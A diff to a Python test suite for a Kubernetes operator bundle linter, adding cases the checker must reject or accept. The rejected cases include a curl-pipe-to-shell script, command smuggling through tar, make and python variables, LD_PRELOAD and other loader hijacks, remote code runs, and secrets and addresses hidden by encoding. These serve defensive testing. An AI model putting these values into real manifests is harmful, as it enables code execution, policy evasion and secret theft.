@@ -18,6 +18,7 @@ from tests.conformance.families.test_bundle_checks import CONTAINER, POD, bundle
 
 ADDRESS = "wss://hub.webpubsub.byohost.test/client/hubs/h"
 KEY = "K" * 43
+OTHER = "q7Lm2Rt5Vw8Zx9Cb3Nk6Pf1Hs4Jd"
 DIGEST = f"registry.byohost.test/byohost/x@sha256:{'b' * 64}"
 SCRIPT = "set -e\ncurl -fsSL https://byohost.test/x | sh\n"
 
@@ -57,6 +58,34 @@ def of_pod(field: str, value: Any) -> Patch:
     return deployment("add", f"{POD}/{field}", value)
 
 
+def variable(name: str, value: str) -> Patch:
+    """One more variable of the operator's container."""
+    return deployment("add", f"{CONTAINER}/env/-", {"name": name, "value": value})
+
+
+def variable_of(name: str, kind: str, of: str, key: str) -> Patch:
+    """One more variable, which is a value of a ConfigMap or a Secret."""
+    reference = {f"{kind}KeyRef": {"name": of, "key": key}}
+    return deployment("add", f"{CONTAINER}/env/-", {"name": name, "valueFrom": reference})
+
+
+def template_annotation(key: str, value: str) -> Patch:
+    """One more annotation of the pod template."""
+    return deployment("add", f"/spec/template/metadata/annotations/{key.replace('/', '~1')}", value)
+
+
+def mount(path: str) -> Patch:
+    """One more mount of the scratch space."""
+    return deployment("add", f"{CONTAINER}/volumeMounts/-", {"name": "scratch", "mountPath": path})
+
+
+def required(kind: str, key: str, operator: str = "In") -> Patch:
+    """The nodes that the pod must run on."""
+    expression = {"key": key, "operator": operator, **({"values": ["n"]} if operator == "In" else {})}
+    terms = {"nodeSelectorTerms": [{kind: [expression]}]}
+    return of_pod("affinity", {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": terms}})
+
+
 def volume(**source: Any) -> Patch:
     """One more volume."""
     return deployment("add", f"{POD}/volumes/-", {"name": "more", **source})
@@ -86,6 +115,9 @@ RED: dict[str, list[tuple[str, Patch]]] = {
         ("in decimal numbers", setting(" ".join(str(ord(letter)) for letter in ADDRESS))),
         ("in hexadecimal", setting(ADDRESS.encode().hex())),
         ("URL-encoded", setting("".join(f"%{ord(letter):02x}" for letter in ADDRESS))),
+        ("as HTML is read", setting("wss&#58;//hub.byohost.test")),
+        ("as mail is read", setting("hub=2Ewebpubsub=2Eazure=2Ecom")),
+        ("escaped", setting("wss\\072//hub.byohost.test")),
         ("escaped", setting('{"url": "wss:\\/\\/hub.byohost.test"}')),
         ("compressed, in base64", setting(base64.b64encode(zlib.compress(ADDRESS.encode())).decode())),
         ("metadata.annotations", annotation(ADDRESS)),
@@ -106,11 +138,23 @@ RED: dict[str, list[tuple[str, Patch]]] = {
         ("as its startupProbe", deployment("replace", f"{CONTAINER}/startupProbe/exec/command", ["awk", "BEGIN{}"])),
         ("starts curl", of_pod("initContainers", [{"name": "get", "image": DIGEST, "command": ["curl", "https://x"]}])),
         ("runs /tmp/tool", of_container("command", ["/tmp/tool"])),
+        ("starts tar --to-command=id", of_container("command", ["tar", "xf", "/app/x", "--to-command=id"])),
+        ("starts make --eval=x:;id", of_container("command", ["make", "--eval=x:;id"])),
+        ("runs https://x.test/a, which does", of_container("command", ["deno", "run", "-A", "https://x.test/a"])),
+        ("runs /tmp/x.jar", of_container("command", ["java", "-javaagent:/tmp/x.jar=a", "-jar", "/app/x.jar"])),
+        ("runs /tmp/x.js", of_container("command", ["node", "--require=/tmp/x.js", "/app/x.js"])),
+        ("runs /app/../tmp/tool", of_container("command", ["/app/../tmp/tool"])),
+        ("runs /proc/self/environ", of_container("command", ["python3", "/proc/self/environ"])),
     ],
     "no_scripts::test_programs_are_taken_from_the_image": [
         ("LD_PRELOAD=/tmp/x.so", deployment("add", f"{CONTAINER}/env/-", {"name": "LD_PRELOAD", "value": "/tmp/x.so"})),
         ("PYTHONPATH=/app:/tmp", setting("/app:/tmp", "PYTHONPATH")),
         ("NODE_OPTIONS=--require /tmp/x.js", setting("--require /tmp/x.js", "NODE_OPTIONS")),
+        ("PYTHONPATH=/app/../tmp/x", variable("PYTHONPATH", "/app/../tmp/x")),
+        ("mounts /etc/ld.so.preload", mount("/etc/ld.so.preload")),
+        ("mounts /usr/local/lib/python3, over programs of its image", mount("/usr/local/lib/python3")),
+        ("mounts /bin, over programs", mount("/bin")),
+        ("mounts /usr, over programs", mount("/usr")),
         ("_JAVA_OPTIONS=-javaagent:/tmp/x.jar", setting("-javaagent:/tmp/x.jar", "_JAVA_OPTIONS")),
     ],
     "no_scripts::test_config_maps_hold_no_program": [
@@ -121,6 +165,11 @@ RED: dict[str, list[tuple[str, Patch]]] = {
     ],
     "no_scripts::test_no_text_is_a_program": [
         ("at data.EXTRA, in base64", setting(base64_of(SCRIPT))),
+        (
+            "at data.EXTRA, as it is: machine code",
+            setting(base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(9)).decode()),
+        ),
+        ("a module in a URL", variable("NODE_OPTIONS", "--import=data:text/javascript,process.exit(1)")),
         ("at metadata.annotations", annotation("#!/usr/bin/env python3\nprint(1)")),
         ("args[0]", of_container("args", [SCRIPT])),
     ],
@@ -156,7 +205,9 @@ RED: dict[str, list[tuple[str, Patch]]] = {
         ("in base32", setting(base64.b32encode(KEY.encode()).decode())),
         ("in base85", setting(base64.b85encode(KEY.encode()).decode())),
         ("in hexadecimal numbers", setting(":".join(f"{ord(letter):02x}" for letter in KEY))),
-        ("in octal numbers", setting("".join(f"\\{ord(letter):03o}" for letter in KEY))),
+        ("escaped", setting("".join(f"\\{ord(letter):03o}" for letter in KEY))),
+        ("in octal numbers", setting(" ".join(f"{ord(letter):03o}" for letter in KEY))),
+        ("as HTML is read", setting("".join(f"&#x{ord(letter):x};" for letter in KEY))),
         ("URL-encoded", setting("%4b" * 43)),
         ("in its own metadata too", annotation(KEY, "Secret")),
         ("in Deployment byohost-operator too", of_container("args", [f"--key={KEY}"])),
@@ -190,14 +241,23 @@ RED: dict[str, list[tuple[str, Patch]]] = {
     "restricted_namespace::test_namespace_is_exempt_from_nothing": [
         ("labels", namespace("labels", "admission.gatekeeper.sh/ignore", "yes")),
         ("labels", namespace("labels", "admissions.enforcer/disabled", "true")),
+        ("labels", namespace("labels", "control-plane", "controller")),
+        ("labels", namespace("labels", "openshift.io/run-level", "0")),
         ("annotations", namespace("annotations", "policies.test/excluded", "true")),
         ("labels", namespace("labels", "security.openshift.io/scc.podSecurityLabelSync", "true")),
     ],
     "settings_in_a_configmap::test_no_password_is_among_the_settings": [
-        ("in a URL under HTTPS_PROXY", setting("http://byohost:pass@10.0.0.1:3128", "HTTPS_PROXY")),
+        ("in a URL at data.HTTPS_PROXY", setting("http://byohost:pass@10.0.0.1:3128", "HTTPS_PROXY")),
+        ("a private key at data.EXTRA", setting("-----BEGIN PRIVATE KEY-----\neA==\n-----END PRIVATE KEY-----\n")),
+        ("in a URL at spec.template", variable("PROXY", "http://byohost:pass@10.0.0.1:3128")),
+        ("in a URL at metadata.annotations", annotation("http://byohost:pass@10.0.0.1:3128")),
+        ("the settings DB_PASSWORD of operator", variable("DB_PASSWORD", "hunter2hunter2")),
+        ("holds DB_PASSWORD: by the name", setting("hunter2hunter2", "DB_PASSWORD")),
+        ("holds db.password: by the name", setting("hunter2hunter2", "db.password")),
     ],
     "one_deployment::test_one_deployment_with_one_replica": [
         ("has paused True", deployment("add", "/spec/paused", True)),
+        ("has schedulingGates", of_pod("schedulingGates", [{"name": "byohost.test/hold"}])),
     ],
     "opens_nothing::test_nothing_is_asked_over_the_network": [
         ("readinessProbe by httpGet", of_container("readinessProbe", {"httpGet": {"port": 80}})),
@@ -254,12 +314,21 @@ RED: dict[str, list[tuple[str, Patch]]] = {
         ("is given devices", of_container("volumeDevices", [{"name": "more", "devicePath": "/dev/x"}])),
         ("claims devices", of_pod("resourceClaims", [{"name": "gpu", "resourceClaimName": "x"}])),
         ("nvidia.com/gpu among its limits", of_container("resources/limits/nvidia.com~1gpu", "1")),
+        ("hugepages-2Mi among its limits", of_pod("resources", {"limits": {"hugepages-2Mi": "2Mi"}})),
+        ("by annotation", template_annotation("cdi.k8s.io/a", "vendor.test/gpu=all")),
+        ("by annotation", template_annotation("io.kubernetes.cri-o.Devices", "/dev/kvm")),
+        ("by annotation", template_annotation("k8s.v1.cni.cncf.io/networks", "host-device")),
     ],
     "operator_shares_nothing::test_the_cluster_places_it": [
         ("names its node", of_pod("nodeName", "n")),
         ("the scheduler mine", of_pod("schedulerName", "mine")),
         ("system-node-critical", of_pod("priorityClassName", "system-node-critical")),
         ("the priority 2000001000", of_pod("priority", 2_000_001_000)),
+        ("its node by kubernetes.io/hostname", of_pod("nodeSelector", {"kubernetes.io/hostname": "n"})),
+        ("by node-role.kubernetes.io/master", of_pod("nodeSelector", {"node-role.kubernetes.io/master": ""})),
+        ("its node by kubernetes.io/hostname", required("matchExpressions", "kubernetes.io/hostname")),
+        ("its node by metadata.name", required("matchFields", "metadata.name")),
+        ("control-plane", required("matchExpressions", "node-role.kubernetes.io/control-plane", "Exists")),
     ],
     "operator_shares_nothing::test_names_mean_what_they_mean_to_others": [
         ("hostAliases", of_pod("hostAliases", [{"ip": "192.0.2.1", "hostnames": ["platform.byohost.test"]}])),
@@ -267,6 +336,12 @@ RED: dict[str, list[tuple[str, Patch]]] = {
         ("dnsPolicy None", of_pod("dnsPolicy", "None")),
         ("dnsPolicy Default", of_pod("dnsPolicy", "Default")),
         ("names up below ['elsewhere.test']", of_pod("dnsConfig", {"searches": ["elsewhere.test"]})),
+        ("hostnameOverride platform.byohost.test", of_pod("hostnameOverride", "platform.byohost.test")),
+        ("mounts /etc/hosts", mount("/etc/hosts")),
+        ("mounts etc/../etc//resolv.conf", mount("etc/../etc//resolv.conf")),
+        ("mounts /etc,", mount("/etc")),
+        ("told by KUBERNETES_SERVICE_HOST", setting("192.0.2.1", "KUBERNETES_SERVICE_HOST")),
+        ("told by HOSTALIASES", variable("HOSTALIASES", "/tmp/names")),
     ],
     "operator_confined::test_system_calls_are_filtered": [
         ("profile None", deployment("remove", f"{POD}/securityContext/seccompProfile")),
@@ -304,6 +379,7 @@ RED: dict[str, list[tuple[str, Patch]]] = {
     "own_secrets_only::test_no_volume_brings_anything_else": [
         ("of kind persistentVolumeClaim", volume(persistentVolumeClaim={"claimName": "x"})),
         ("of kind nfs", volume(nfs={"server": "x", "path": "/"})),
+        ("asks a store of secrets", template_annotation("vault.hashicorp.com/agent-inject", "true")),
         ("projects a clusterTrustBundle", volume(projected={"sources": [{"clusterTrustBundle": {"path": "x"}}]})),
     ],
     "token_for_the_platform::test_each_token_is_for_the_platform": [
@@ -324,9 +400,38 @@ RED: dict[str, list[tuple[str, Patch]]] = {
                 "byohost.test",
             )
         ),
+        (
+            "asks a cloud for an identity",
+            Patch(
+                "add",
+                "ServiceAccount",
+                "byohost-operator",
+                "/metadata/annotations",
+                {"iam.gke.io/gcp-service-account": "x"},
+            ),
+        ),
+        ("asks a cloud for an identity", template_annotation("iam.amazonaws.com/role", "admin")),
+        (
+            "asks a cloud for an identity",
+            deployment("add", "/spec/template/metadata/labels/azure.workload.identity~1use", "true"),
+        ),
+    ],
+    "no_automatic_sandbox_token::test_sandbox_account_mounts_no_token": [
+        (
+            "asks a cloud for an identity, which every sandbox",
+            Patch(
+                "add",
+                "ServiceAccount",
+                "byohost-sandbox",
+                "/metadata/annotations",
+                {"eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/x"},
+            ),
+        ),
     ],
     "token_for_the_platform::test_the_automatic_token_is_left_on": [
         ("switches off the token", of_pod("automountServiceAccountToken", False)),
+        ("where the API's token would lie", mount("/var/run/secrets/kubernetes.io/serviceaccount")),
+        ("where the API's token would lie", mount("/run/secrets/kubernetes.io/serviceaccount/")),
         (
             "switches off the token",
             Patch("add", "ServiceAccount", "byohost-operator", "/automountServiceAccountToken", False),
@@ -383,6 +488,94 @@ def test_no_yaml_hides_the_channel(complaint: Callable[..., str], line: str) -> 
     assert "at data.HUB names the messaging channel" in said
 
 
+PIECES: dict[str, tuple[str, str, list[Patch]]] = {
+    "a shell by a variable": (
+        "no_scripts::test_containers_run_no_shell",
+        "starts a shell (/bin/sh)",
+        [variable("S", "sh"), variable("T", "/bin/$(S)"), of_container("command", ["$(T)", "/app/start"])],
+    ),
+    "a program by variables": (
+        "no_scripts::test_containers_run_no_shell",
+        "hands a program to python3",
+        [
+            setting("-c", "FLAG"),
+            variable("P", "import os; os.system('id')"),
+            of_container("command", ["python3", "$(FLAG)", "$(P)"]),
+        ],
+    ),
+    "a script by variables": (
+        "no_scripts::test_no_text_is_a_program",
+        "the pod carries program text at the variable P of operator",
+        [variable("A", "sys"), variable("P", "os.$(A)tem('id')")],
+    ),
+    "a loader's path in a ConfigMap": (
+        "no_scripts::test_programs_are_taken_from_the_image",
+        "PYTHONPATH=/tmp/lib",
+        [setting("/tmp/lib"), variable_of("PYTHONPATH", "configMap", "byohost-operator", "EXTRA")],
+    ),
+    "a loader's path in a Secret": (
+        "no_scripts::test_programs_are_taken_from_the_image",
+        "PYTHONPATH=/tmp/lib",
+        [
+            Patch("add", "Secret", None, "/stringData/x", "/tmp/lib"),
+            variable_of("PYTHONPATH", "secret", "byohost-install-key", "x"),
+        ],
+    ),
+    "a loader's path of a whole Secret": (
+        "no_scripts::test_programs_are_taken_from_the_image",
+        "LD_PRELOAD=/tmp/x.so",
+        [
+            Patch("add", "Secret", None, "/stringData/PRELOAD", "/tmp/x.so"),
+            deployment(
+                "add", f"{CONTAINER}/envFrom/-", {"prefix": "LD_", "secretRef": {"name": "byohost-install-key"}}
+            ),
+        ],
+    ),
+    "the channel by variables": (
+        "no_channel_address::test_no_string_hides_a_trace_of_the_channel",
+        "the variable C of operator names the messaging channel",
+        [
+            variable("A", "hub.webpub"),
+            variable("B", "sub.byohost.test"),
+            variable("C", "https://$(A)$(B)/"),
+        ],
+    ),
+    "the channel by an argument": (
+        "no_channel_address::test_no_string_hides_a_trace_of_the_channel",
+        "args[0] of operator names the messaging channel",
+        [setting("//hub.byohost.test"), of_container("args", ["--to=wss:$(EXTRA)"])],
+    ),
+    "the key by variables": (
+        "key_in_a_secret::test_no_secret_value_stands_elsewhere",
+        "stands in the pod too, at the variable C of operator",
+        [variable("A", KEY[:12]), setting(KEY[12:24]), variable("C", f"$(A)$(EXTRA){KEY[24:36]}")],
+    ),
+    "the key beside wrapped base64": (
+        "key_in_a_secret::test_no_secret_value_stands_elsewhere",
+        "stands in ConfigMap byohost-operator too, at data.EXTRA",
+        [
+            Patch("add", "Secret", None, "/data", {"other": f"{base64_of(OTHER)[:20]}\n{base64_of(OTHER)[20:]}"}),
+            setting(OTHER),
+        ],
+    ),
+}
+
+
+@pytest.mark.parametrize("name", PIECES)
+def test_the_claim_sees_what_is_put_together(complaint: Callable[..., str], name: str) -> None:
+    """Several changes, each of which says nothing alone."""
+    claim, words, patches = PIECES[name]
+    file, _, check = claim.partition("::")
+    assert words in complaint(f"bundle/test_{file}", check, parse(patched(bundle_text(), patches)))
+
+
+def test_a_reference_to_the_secret_is_no_second_place(tmp_path: Path) -> None:
+    """An argument that names a variable out of the Secret does not say its value."""
+    own = variable_of("K", "secret", "byohost-install-key", "install-key")
+    patches = [own, of_container("args", ["--key=$(K)"])]
+    assert linted(tmp_path, patched(bundle_text(), patches))["verdict"] == "conformant"
+
+
 GREEN: dict[str, list[Patch]] = {
     "a token that the pod switches on": [
         Patch("add", "ServiceAccount", "byohost-operator", "/automountServiceAccountToken", False),
@@ -423,6 +616,7 @@ GREEN: dict[str, list[Patch]] = {
         setting("if the proxy is down; then wait\nfor example, in the night; do nothing", "HINT"),
         setting("fi", "LANGUAGE"),
         setting("https://byohost.test/a:b@c", "LINK"),
+        setting("the header is Authorization: Bearer, then the token", "HELP"),
         setting("done", "STATE"),
         setting("--max-old-space-size=128", "NODE_OPTIONS"),
         setting("550e8400-e29b-41d4-a716-446655440000", "TENANT"),
@@ -431,6 +625,11 @@ GREEN: dict[str, list[Patch]] = {
         setting("rate(http_requests_total[5m]) > 0 && up", "RULE"),
         setting("json.reliable.webpubsub.azure.v1", "PROTOCOL"),
         setting("server {\n  listen 127.0.0.1:80;\n}", "nginx.conf"),
+        setting("/var/run/secrets/byohost/password", "PASSWORD"),
+        setting("byohost-install-key", "KEY_SECRET"),
+        setting("/var/run/secrets/byohost/token", "TOKEN_FILE"),
+        setting("https://platform.byohost.test", "TOKEN"),
+        setting("-----BEGIN PUBLIC KEY-----\nMCow\n-----END PUBLIC KEY-----\n", "public.pem"),
         setting("ZW52aXJvbm1lbnQ6IHByb2QKcmVnaW9uOiBldQo=", "ENCODED"),
         annotation("applied by the platform team, see https://byohost.test/docs"),
     ],
@@ -469,6 +668,39 @@ GREEN: dict[str, list[Patch]] = {
         of_container("command", ["env", "A=b", "python3", "-I", "-m", "reference_operator"]),
         of_container("args", ["--config", "/var/run/secrets/byohost/config", "-c", "python"]),
         of_container("readinessProbe", {"exec": {"command": ["/app/ready", "--quick"]}}),
+        variable("GREETING", "$(BYOHOST_HOST) of $$(HOME)"),
+        variable("PYTHONPATH", "/app:/app/vendor"),
+        variable("OVERRIDDEN", "$(NOBODY)"),
+        variable("BASH_ENV", "/dev/null"),
+        variable("JAVA_TOOL_OPTIONS", "-Djava.io.tmpdir=/tmp -XX:HeapDumpPath=/tmp/dump -javaagent:/app/agent.jar"),
+    ],
+    "another command of the image": [
+        of_container("command", ["node", "/app/operator.js", "https://platform.byohost.test"]),
+        mount("/usr/lib/ssl/certs"),
+    ],
+    "a third command of the image": [
+        of_container(
+            "command", ["java", "-javaagent:/app/agent.jar=x", "-Djava.io.tmpdir=/tmp", "-jar", "/app/it.jar"]
+        ),
+    ],
+    "a size for all its containers together": [
+        of_pod(
+            "resources",
+            {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"cpu": "500m", "memory": "256Mi"}},
+        ),
+        deployment("remove", f"{CONTAINER}/resources"),
+        of_pod("overhead", {"cpu": "0"}),
+    ],
+    "mounts and annotations that change no name and give nothing": [
+        mount("/etc/ssl/certs/more"),
+        mount("/usr/local/share/ca-certificates"),
+        mount("/library"),
+        mount("/etc/byohost"),
+        of_pod("hostnameOverride", "operator"),
+        required("matchExpressions", "node-role.kubernetes.io/control-plane", "DoesNotExist"),
+        template_annotation("sidecar.istio.io/inject", "false"),
+        template_annotation("vault.hashicorp.com/agent-inject", "false"),
+        Patch("add", "ServiceAccount", "byohost-operator", "/metadata/annotations", {"byohost.test/note": "x"}),
     ],
 }
 
